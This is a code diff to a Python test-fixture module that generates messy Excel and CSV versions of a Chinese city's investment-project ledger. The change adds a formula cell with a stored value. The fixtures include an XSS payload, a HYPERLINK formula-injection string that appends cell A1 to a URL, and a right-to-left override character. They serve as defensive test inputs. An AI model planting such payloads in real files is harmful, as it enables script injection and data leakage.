@@ -10,10 +10,12 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import zipfile
 from dataclasses import dataclass
 from typing import Any, Final
 
 import openpyxl
+from openpyxl.utils import get_column_letter
 
 TITLE: Final = "××市2023年招商引资重点项目台账"
 SUBTITLE: Final = "填报单位：××市投资促进局    填报日期：2023年6月30日"
@@ -39,7 +41,7 @@ HEADERS: Final = (
 )
 #: Row of the header, as a spreadsheet counts; the first project stands below it.
 HEADER_ROW: Final = 3
-HOSTILE_NAME: Final = "<img src=x onerror=alert(1)>铝精深加工项目"
+HOSTILE_NAME: Final = "</script><img src=x onerror=alert(1)>铝精深加工项目"
 INJECTED: Final = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
 REVERSED_NAME: Final = "石墨\u202e负极材料项目"
 
@@ -181,6 +183,9 @@ PLANTED: Final[tuple[Planted, ...]] = (
         for column, key in faults
     ),
 )
+#: Only in the workbook: an amount as a formula with its stored value, in the last row.
+STORED_ROW: Final = HEADER_ROW + len(_CASES)
+STORED: Final = Planted(None, "总投资（亿元）", "formulas")
 #: Only in the workbook: a formula that nobody has computed.
 FORMULA_ROW: Final = HEADER_ROW + 1 + len(_CASES)
 FORMULA: Final = Planted(FORMULA_ROW, "总投资（亿元）", "formula_without_value")
@@ -242,10 +247,33 @@ def messy_xlsx() -> bytes:
     for column, header in enumerate(HEADERS, start=1):
         sheet.cell(FORMULA_ROW, column, formula.get(header))
     sheet.cell(FORMULA_ROW + 1, 1, "合计")
-    sheet.cell(FORMULA_ROW + 1, HEADERS.index("总投资（亿元）") + 1, 1234)
+    money = HEADERS.index("总投资（亿元）") + 1
+    sheet.cell(FORMULA_ROW + 1, money, 1234)
+    sheet.cell(STORED_ROW, money, "=2+3")
     buffer = io.BytesIO()
     book.save(buffer)
-    return buffer.getvalue()
+    return _with_stored_value(buffer.getvalue(), money)
+
+
+def _with_stored_value(content: bytes, column: int) -> bytes:
+    """Return the workbook, the formula of `STORED_ROW` with its value, 5."""
+    cell = f'r="{get_column_letter(column)}{STORED_ROW}"'
+    part = "xl/worksheets/sheet1.xml"
+    sink = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as old,
+        zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for entry in old.infolist():
+            text = old.read(entry)
+            if entry.filename == part:
+                before = f"<c {cell}><f>2+3</f><v />".encode()
+                if text.count(before) != 1:
+                    message = f"{part} holds no {before!r}"
+                    raise ValueError(message)
+                text = text.replace(before, f"<c {cell}><f>2+3</f><v>5</v>".encode())
+            new.writestr(entry, text)
+    return sink.getvalue()
 
 
 def messy_csv() -> bytes:
